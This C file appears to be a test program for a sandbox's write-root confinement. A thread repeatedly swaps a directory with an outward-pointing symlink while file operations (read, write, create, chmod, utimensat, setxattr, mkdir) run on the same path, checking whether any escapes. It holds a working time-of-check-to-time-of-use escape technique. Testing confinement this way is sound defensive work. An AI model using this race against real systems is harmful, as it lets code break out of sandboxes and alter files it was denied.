/*
 * A folder of the write root is swapped, again and again, with a symbolic link
 * that leads out, while the same path is used. Usage: swap-race OUTSIDE INSIDE ROUNDS
 * OUTSIDE/file exists already; a check of the string, or of an earlier moment, loses.
 */
#include "route.h"
#include <pthread.h>
#include <sys/xattr.h>

static const char *outside, *inside;
static long rounds;
static volatile bool over;
static char *now, *other;

static void *swap(void *unused)
{
	while (!over) renameat2(AT_FDCWD, now, AT_FDCWD, other, RENAME_EXCHANGE);
	return unused;
}

/* Sets the stage for one route: NOW is a real folder with a file, OTHER the way out. */
static void begin(const char *route_name)
{
	pthread_t thread;
	now = path_of("%s/%s-now", inside, route_name);
	other = path_of("%s/%s-other", inside, route_name);
	if (mkdir(now, 0700) < 0 || symlink(outside, other) < 0) unable(now);
	int fd = open(path_of("%s/file", now), O_CREAT | O_WRONLY, 0600);
	if (fd < 0 || write(fd, "inside\n", 7) != 7) unable("inside file");
	close(fd);
	if (pthread_create(&thread, NULL, swap, NULL) != 0) unable("thread");
}

static bool leads_out(int fd)
{
	char target[PATH_MAX] = "";
	if (readlink(path_of("/proc/self/fd/%d", fd), target, sizeof target - 1) < 0) return false;
	return strncmp(target, outside, strlen(outside)) == 0;
}

static int read_file(void)
{
	char *path;
	begin("read");
	path = path_of("%s/file", now);
	for (long i = 0; i < rounds; i++) {
		char text[32] = "";
		int fd = open(path, O_RDONLY);
		if (fd < 0) continue;
		if (read(fd, text, sizeof text - 1) > 0 && strncmp(text, "inside", 6) != 0) return note("%s", text), 0;
		close(fd);
	}
	return NOTHING;
}

static int write_file(void)
{
	char *path;
	begin("write");
	path = path_of("%s/file", now);
	for (long i = 0; i < rounds; i++) {
		int fd = open(path, O_WRONLY);
		if (fd < 0) continue;
		if (leads_out(fd)) return put_into(fd);
		close(fd);
	}
	return NOTHING;
}

static int create_file(void)
{
	char *path;
	begin("create");
	path = path_of("%s/planted", now);
	for (long i = 0; i < rounds; i++) {
		int fd = open(path, O_CREAT | O_WRONLY, 0600);
		if (fd < 0) continue;
		if (leads_out(fd)) return put_into(fd);
		close(fd);
		unlink(path);
	}
	return NOTHING;
}

/*
 * What these do cannot be seen from a cell, where the host compares before and
 * after. Without a cell it ends the race, looked for once in a while.
 */
static bool mode_changed(void)
{
	struct stat facts;
	return stat(path_of("%s/file", outside), &facts) == 0 && (facts.st_mode & 07777) == 0606;
}

static bool times_changed(void)
{
	struct stat facts;
	return stat(path_of("%s/file", outside), &facts) == 0 && facts.st_mtime == 86400;
}

static bool attributes_changed(void)
{
	char value[8];
	return getxattr(path_of("%s/file", outside), "user.raced", value, sizeof value) > 0;
}

static int change_mode(void)
{
	char *path;
	begin("chmod");
	path = path_of("%s/file", now);
	for (long i = 0; i < rounds; i++) {
		chmod(path, 0606);
		if (i % 1000 == 999 && mode_changed()) return 0;
	}
	return mode_changed() ? 0 : NOTHING;
}

static int change_times(void)
{
	static const struct timespec long_ago[2] = { { .tv_sec = 86400 }, { .tv_sec = 86400 } };
	char *path;
	begin("utimensat");
	path = path_of("%s/file", now);
	for (long i = 0; i < rounds; i++) {
		utimensat(AT_FDCWD, path, long_ago, 0);
		if (i % 1000 == 999 && times_changed()) return 0;
	}
	return times_changed() ? 0 : NOTHING;
}

static int change_attributes(void)
{
	char *path;
	begin("setxattr");
	path = path_of("%s/file", now);
	for (long i = 0; i < rounds; i++) {
		setxattr(path, "user.raced", "x", 1, 0);
		if (i % 1000 == 999 && attributes_changed()) return 0;
	}
	return attributes_changed() ? 0 : NOTHING;
}

static int make_folder(void)
{
	char *path;
	begin("mkdir");
	path = path_of("%s/made", now);
	for (long i = 0; i < rounds; i++) {
		mkdir(path, 0700);
		if (access(path_of("%s/made", outside), F_OK) == 0) return 0;
		rmdir(path);
	}
	return NOTHING;
}

int main(int count, char **words)
{
	if (count != 4) return 64;
	outside = words[1];
	inside = words[2];
	rounds = strtol(words[3], NULL, 10);
	route("read", read_file);
	route("write", write_file);
	route("create", create_file);
	route("chmod", change_mode);
	route("utimensat", change_times);
	route("setxattr", change_attributes);
	route("mkdir", make_folder);
	return 0;
}
